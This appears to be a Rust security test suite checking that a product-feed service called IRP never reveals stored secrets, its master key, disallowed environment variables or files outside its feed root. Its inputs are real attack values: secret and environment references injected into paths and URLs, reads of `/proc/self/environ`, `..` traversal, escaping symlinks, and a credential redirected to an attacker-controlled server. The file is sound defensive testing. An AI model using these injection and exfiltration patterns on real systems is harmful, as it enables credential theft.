//! Credentials stay write-only: with an operator's API token, a portal login or the command
//! line, no document can make IRP reveal a stored secret, the secret store's key, an
//! environment variable it was not allowed to read, or a file outside the feed root.

use std::io::Read as _;
use std::net::TcpListener;
use std::process::Output;
use std::sync::{Arc, Mutex};

use irp_store::db_tests;
use irp_store::testkit::TestDb;
use serde_json::Value;

use crate::harness::{Irp, Serve, add_user, root, start_serve, stderr, stdout};

/// The secret store's key of these tests (base64 of 32 bytes), a canary itself.
const KEY: &str = "Q0FOQVJZLWtleS0wMTIzNDU2Nzg5YWJjZGVmZ2hpams=";
/// What the key decodes to.
const KEY_RAW: &str = "CANARY-key-0123456789abcdefghijk";
const FLEXIT_PW: &str = "CANARY-flexit-password-1";
const ACME_TOKEN: &str = "CANARY-acme-token-2";
const ENV_CANARY: &str = "CANARY-env-value-3";

const MAPPING: &str = r#""mapping": {"sku": "sku", "name": "name", "ean": "ean", "stock_available": "stock",
    "price_purchase_amount": "buy", "price_consumer_amount": "sell"}"#;

/// A refurbisher `acme` whose offers are read from `path` (a `file` connection).
fn acme_file(path: &str) -> String {
    format!(
        r#"{{"acme": {{"name": "Acme", "default_margin": 10, "offers": {{"connection": "file", "path": {}, "type": "csv", "separator": ";", "price_locale": "nl_NL", {MAPPING}}}}}}}"#,
        Value::String(path.to_owned())
    )
}

/// Every form a canary could be shown in.
fn canaries() -> Vec<&'static str> {
    vec![KEY, KEY_RAW, FLEXIT_PW, ACME_TOKEN, ENV_CANARY, "CANARY-"]
}

#[track_caller]
fn assert_clean(what: &str, text: &str) {
    for c in canaries() {
        assert!(
            !text.contains(c),
            "{what} shows the secret value {c:?}:\n{text}"
        );
    }
}

struct World {
    irp: Irp,
    feeds: tempfile::TempDir,
}

impl World {
    /// The binary with the secret store's key, an allowed variable and a feed root of its own,
    /// in every command and in `serve`.
    fn new(db: &TestDb) -> World {
        let feeds = tempfile::tempdir().unwrap();
        let irp = Irp::new(&db.url)
            .with_env("IRP_SECRET_KEY", KEY)
            .with_env("IRP_REF_CANARY", ENV_CANARY)
            .with_env("IRP_FEED_ROOT", feeds.path());
        World { irp, feeds }
    }

    fn run(&self, args: &[&str], stdin: Option<&str>) -> Output {
        self.irp.run_with_stdin(args, stdin.unwrap_or_default())
    }

    fn ok(&self, args: &[&str], stdin: Option<&str>) -> String {
        let out = self.run(args, stdin);
        assert!(
            out.status.success(),
            "irp {args:?}: {}{}",
            stdout(&out),
            stderr(&out)
        );
        format!("{}{}", stdout(&out), stderr(&out))
    }

    fn serve(&self) -> Serve {
        start_serve(&self.irp, &[], &[])
    }
}

/// A TCP listener that records whatever reaches it (to prove nothing was sent).
fn recorder() -> (String, Arc<Mutex<Vec<u8>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    let got = Arc::new(Mutex::new(Vec::new()));
    let kept = got.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let _ = s.set_read_timeout(Some(std::time::Duration::from_millis(500)));
            let mut buf = [0u8; 4096];
            while let Ok(n) = s.read(&mut buf) {
                if n == 0 {
                    break;
                }
                kept.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        }
    });
    (addr, got)
}

db_tests!(
    an_operator_token_cannot_make_irp_reveal_a_secret_or_the_master_key,
    a_file_connection_reads_only_below_the_feed_root,
    pointing_a_connector_elsewhere_does_not_send_its_stored_credential_there,
);

/// The attack of the issue this suite began with, and its variants: each answer names the
/// reference or the rule, never a value; afterwards every API answer, every portal page, the
/// command line and the server's log are searched for the canaries.
async fn an_operator_token_cannot_make_irp_reveal_a_secret_or_the_master_key(db: TestDb) {
    let w = World::new(&db);
    w.ok(
        &[
            "refurbisher",
            "apply",
            "-f",
            "config/refurbishers/flexit.json",
        ],
        None,
    );
    w.ok(
        &["secret", "set", "flexit.offers.auth.password"],
        Some(FLEXIT_PW),
    );
    w.ok(
        &["secret", "set", "acme.offers.auth.token"],
        Some(ACME_TOKEN),
    );
    std::fs::create_dir_all(w.feeds.path().join("acme")).unwrap();
    std::fs::write(
        w.feeds.path().join("acme/feed.csv"),
        "sku;name;ean;stock;buy;sell\nA-1;Phone;4006381333931;3;100,00;150,00\n",
    )
    .unwrap();
    add_user(
        &w.irp,
        "ops@iused.example",
        "a long and unusual passphrase 42",
        "operator",
    );
    let token = crate::harness::api_token(&w.irp, "attacker", "operator");
    let serve = w.serve();
    let base = serve.base();
    let client = reqwest::Client::new();
    let api = |method: reqwest::Method, path: &str| {
        client
            .request(method, format!("{base}{path}"))
            .bearer_auth(&token)
    };

    // 1. The master key and another refurbisher's password through a preview's error.
    let attack = acme_file("/x/${env:IRP_SECRET_KEY}/${secret:flexit.offers.auth.password}");
    let r = api(reqwest::Method::POST, "/api/v1/config/preview")
        .body(attack.clone())
        .send()
        .await
        .unwrap();
    let status = r.status();
    let text = r.text().await.unwrap();
    assert_eq!(status, 422, "{text}");
    assert_clean("the preview of the master-key attack", &text);
    assert!(text.contains("acme.offers.path"), "{text}");
    assert!(text.contains("IRP_SECRET_KEY"), "{text}");

    // … and saving it is refused the same way, naming the path and the rule.
    let r = api(reqwest::Method::PUT, "/api/v1/refurbishers")
        .body(attack)
        .send()
        .await
        .unwrap();
    let text = r.text().await.unwrap();
    assert!(text.contains("acme.offers.path"), "{text}");
    assert!(text.contains("is not one of"), "{text}");
    assert_clean("applying the attack", &text);

    // 2. Its own secret and an allowed variable inside a path: the error shows the references.
    let own = acme_file("acme/${secret:acme.offers.auth.token}/${env:IRP_REF_CANARY}.csv");
    let r = api(reqwest::Method::POST, "/api/v1/config/preview")
        .body(own.clone())
        .send()
        .await
        .unwrap();
    let status = r.status();
    let text = r.text().await.unwrap();
    assert_eq!(status, 409, "{text}");
    assert_clean("the preview of its own secret in a path", &text);
    assert!(
        text.contains("${secret:acme.offers.auth.token}") && text.contains("${env:IRP_REF_CANARY}"),
        "the error names the references: {text}"
    );

    // 3. A variable the host did not allow is not read, and nothing is sent anywhere.
    let (addr, got) = recorder();
    let web = format!(
        r#"{{"acme": {{"name": "Acme", "default_margin": 10, "offers": {{"connection": "web", "endpoint": "http://{addr}/feed?h=${{env:HOME}}", "type": "json", {MAPPING}}}}}}}"#
    );
    let r = api(reqwest::Method::POST, "/api/v1/config/preview")
        .body(web)
        .send()
        .await
        .unwrap();
    let text = r.text().await.unwrap();
    assert!(
        text.contains("environment variable `HOME` may not be read by documents"),
        "{text}"
    );
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(got.lock().unwrap().is_empty(), "a request was sent");

    // 4. Saved, imported and previewed: runs, previews and the CLI show references only.
    let r = api(reqwest::Method::PUT, "/api/v1/refurbishers")
        .body(own)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    for path in [
        "/api/v1/refurbishers/acme/import",
        "/api/v1/refurbishers/acme/preview",
    ] {
        let r = api(reqwest::Method::POST, path).send().await.unwrap();
        let text = r.text().await.unwrap();
        assert_clean(path, &text);
        assert!(
            text.contains("${secret:acme.offers.auth.token}"),
            "{path}: {text}"
        );
    }
    for args in [
        &["feed", "import", "acme"][..],
        &["feed", "preview", "acme"],
        &["feed", "runs", "acme", "--json"],
        &["refurbisher", "show", "acme", "--json"],
        &["refurbisher", "show", "flexit"],
        &["secret", "list"],
    ] {
        let out = w.run(args, None);
        assert_clean(
            &format!("irp {args:?}"),
            &format!("{}{}", stdout(&out), stderr(&out)),
        );
    }

    // 5. Everything an operator can read: every GET of the API, every page of the portal.
    let spec: Value = client
        .get(format!("{base}/api/v1/openapi.json"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let runs: Value = api(reqwest::Method::GET, "/api/v1/refurbishers/acme/runs")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let run_id = runs
        .as_array()
        .or_else(|| runs["runs"].as_array())
        .and_then(|a| a.first())
        .map_or("1".to_owned(), |r| r["id"].to_string());
    let mut checked = 0;
    for (path, item) in spec["paths"].as_object().unwrap() {
        if item.get("get").is_none() {
            continue;
        }
        let concrete = path
            .replace("{key}", "acme")
            .replace("{refurbisher}", "acme")
            .replace("{sku}", "A-1")
            .replace("{id}", &run_id)
            .replace("{ean}", "4006381333931");
        let r = api(reqwest::Method::GET, &concrete).send().await.unwrap();
        let text = r.text().await.unwrap();
        assert_clean(&format!("GET {concrete}"), &text);
        checked += 1;
    }
    assert!(checked >= 15, "only {checked} GET endpoints checked");

    let pages = crawl(
        &base,
        "ops@iused.example",
        "a long and unusual passphrase 42",
    )
    .await;
    assert!(pages >= 8, "only {pages} pages crawled");

    assert_clean("the server's log", &serve.log_text());
}

/// Logs in and follows every same-site link from the dashboard (GET only); asserts each page
/// is clean; how many pages were read.
async fn crawl(base: &str, email: &str, password: &str) -> usize {
    let cookie = crate::harness::login_cookie(base, email, password).await;
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut seen = std::collections::BTreeSet::new();
    let mut queue = vec!["/".to_owned()];
    while let Some(path) = queue.pop() {
        if !seen.insert(path.clone()) || seen.len() > 200 {
            continue;
        }
        let r = client
            .get(format!("{base}{path}"))
            .header("cookie", &cookie)
            .send()
            .await
            .unwrap();
        let text = r.text().await.unwrap();
        assert_clean(&format!("the page {path}"), &text);
        for part in text.split("href=\"").skip(1) {
            let Some(link) = part.split('"').next() else {
                continue;
            };
            let link = link.replace("&amp;", "&");
            if link.starts_with('/')
                && !link.starts_with("//")
                && !link.starts_with("/static/")
                && !link.starts_with("/logout")
                && !seen.contains(&link)
            {
                queue.push(link);
            }
        }
    }
    seen.len()
}

/// `file` connections read only below the feed root: not `/proc/self/environ`, not the key
/// file by `..`, not through a symlink leading out; what is below it reads as before.
async fn a_file_connection_reads_only_below_the_feed_root(db: TestDb) {
    let w = World::new(&db);
    let key_file = w.irp.data.path().join("secret.key");
    std::fs::write(&key_file, KEY).unwrap();
    let feeds = w.feeds.path();
    std::fs::write(
        feeds.join("good.csv"),
        "sku;name;ean;stock;buy;sell\nA-1;Phone;4006381333931;3;100,00;150,00\n",
    )
    .unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", feeds.join("environ.csv")).unwrap();
    std::os::unix::fs::symlink(&key_file, feeds.join("key.csv")).unwrap();
    let key_rel = format!(
        "../{}",
        key_file
            .strip_prefix(feeds.parent().unwrap())
            .unwrap()
            .display()
    );
    for (path, expected) in [
        ("/proc/self/environ", "is outside the feed root"),
        (key_file.to_str().unwrap(), "is outside the feed root"),
        (key_rel.as_str(), "contains `..`"),
        ("environ.csv", "is outside the feed root"),
        ("key.csv", "is outside the feed root"),
    ] {
        let doc = w.irp.data.path().join("acme.json");
        std::fs::write(&doc, acme_file(path)).unwrap();
        w.ok(&["refurbisher", "apply", "-f", doc.to_str().unwrap()], None);
        let out = w.run(&["feed", "import", "acme", "--json"], None);
        let text = format!("{}{}", stdout(&out), stderr(&out));
        assert!(text.contains(expected), "{path}: {text}");
        assert!(text.contains("IRP_FEED_ROOT"), "{path}: {text}");
        assert_clean(path, &text);
        assert!(!text.contains("IRP_DATABASE_URL="), "{path}: {text}");
        let out = w.run(&["feed", "preview", "acme"], None);
        let text = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!out.status.success(), "{path}: {text}");
        assert!(text.contains(expected), "{path}: {text}");
        assert_clean(path, &text);
    }
    // Below the root it reads as before (a relative path is taken below the root).
    let doc = w.irp.data.path().join("acme.json");
    std::fs::write(&doc, acme_file("good.csv")).unwrap();
    w.ok(&["refurbisher", "apply", "-f", doc.to_str().unwrap()], None);
    let text = w.ok(&["feed", "import", "acme", "--json"], None);
    assert!(text.contains("\"succeeded\""), "{text}");
    // The operator's own `--file` from the shell stays free.
    let outside = tempfile::NamedTempFile::new_in(root().join("target")).unwrap();
    std::fs::write(
        outside.path(),
        "sku;name;ean;stock;buy;sell\nA-1;Phone;4006381333931;4;100,00;150,00\n",
    )
    .unwrap();
    let text = w.ok(
        &[
            "feed",
            "import",
            "acme",
            "--file",
            outside.path().to_str().unwrap(),
            "--json",
        ],
        None,
    );
    assert!(text.contains("\"succeeded\""), "{text}");
}

/// An operator who points a connector at their own server gets its stored credential only by
/// storing it again — that is, by knowing it already.
async fn pointing_a_connector_elsewhere_does_not_send_its_stored_credential_there(db: TestDb) {
    let w = World::new(&db);
    w.ok(
        &["secret", "set", "acme.offers.auth.token"],
        Some(ACME_TOKEN),
    );
    let token = crate::harness::api_token(&w.irp, "attacker", "operator");
    let serve = w.serve();
    let base = serve.base();
    let client = reqwest::Client::new();
    let web = |addr: &str| {
        format!(
            r#"{{"acme": {{"name": "Acme", "default_margin": 10, "offers": {{"connection": "web", "endpoint": "http://{addr}/feed",
            "auth": {{"type": "bearer", "token": "${{secret:acme.offers.auth.token}}"}}, "type": "json", "timeout_secs": 5, {MAPPING}}}}}}}"#
        )
    };
    let put_and_import = |doc: String| {
        let (client, base, token) = (client.clone(), base.clone(), token.clone());
        async move {
            let r = client
                .put(format!("{base}/api/v1/refurbishers"))
                .bearer_auth(&token)
                .body(doc)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
            client
                .post(format!("{base}/api/v1/refurbishers/acme/import"))
                .bearer_auth(&token)
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap()
        }
    };
    // The refurbisher's server: the first use binds the credential to it.
    let (real, got_real) = recorder();
    put_and_import(web(&real)).await;
    assert!(
        String::from_utf8_lossy(&got_real.lock().unwrap()).contains(ACME_TOKEN),
        "the credential reached the refurbisher's own server"
    );
    // The attacker's server: nothing is sent, and the run says why.
    let (evil, got_evil) = recorder();
    let text = put_and_import(web(&evil)).await;
    assert!(
        text.contains("${secret:acme.offers.auth.token} was stored for")
            && text.contains("store it again"),
        "{text}"
    );
    assert_clean("the refused run", &text);
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(
        got_evil.lock().unwrap().is_empty(),
        "a request reached the other server"
    );
    // Stored again by someone who knows it, the credential goes to the new server.
    w.ok(
        &["secret", "set", "acme.offers.auth.token"],
        Some(ACME_TOKEN),
    );
    put_and_import(web(&evil)).await;
    assert!(String::from_utf8_lossy(&got_evil.lock().unwrap()).contains(ACME_TOKEN));

    // A rotation binds at once to where the stored document points, so a preview of an unsaved
    // document pointing elsewhere, right after it, gets nothing.
    let said = w.ok(
        &["secret", "set", "acme.offers.auth.token"],
        Some(ACME_TOKEN),
    );
    assert!(
        said.contains(&format!("it is sent only to http://{evil}")),
        "{said}"
    );
    got_real.lock().unwrap().clear();
    let r = client
        .post(format!("{base}/api/v1/config/preview"))
        .bearer_auth(&token)
        .body(web(&real))
        .send()
        .await
        .unwrap();
    let text = r.text().await.unwrap();
    assert!(text.contains("was stored for"), "{text}");
    assert_clean("the unsaved preview", &text);
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(
        got_real.lock().unwrap().is_empty(),
        "the unsaved preview sent a request"
    );

    // A secret stored before any document uses it is not bound by an unsaved preview either.
    w.ok(
        &["secret", "set", "fresh.offers.auth.token"],
        Some(ACME_TOKEN),
    );
    let fresh = web(&real)
        .replace("\"acme\"", "\"fresh\"")
        .replace("secret:acme.", "secret:fresh.");
    let r = client
        .post(format!("{base}/api/v1/config/preview"))
        .bearer_auth(&token)
        .body(fresh)
        .send()
        .await
        .unwrap();
    let text = r.text().await.unwrap();
    assert!(
        text.contains("has not been used since it was stored"),
        "{text}"
    );
    assert!(
        got_real.lock().unwrap().is_empty(),
        "the unsaved preview sent a request"
    );
}
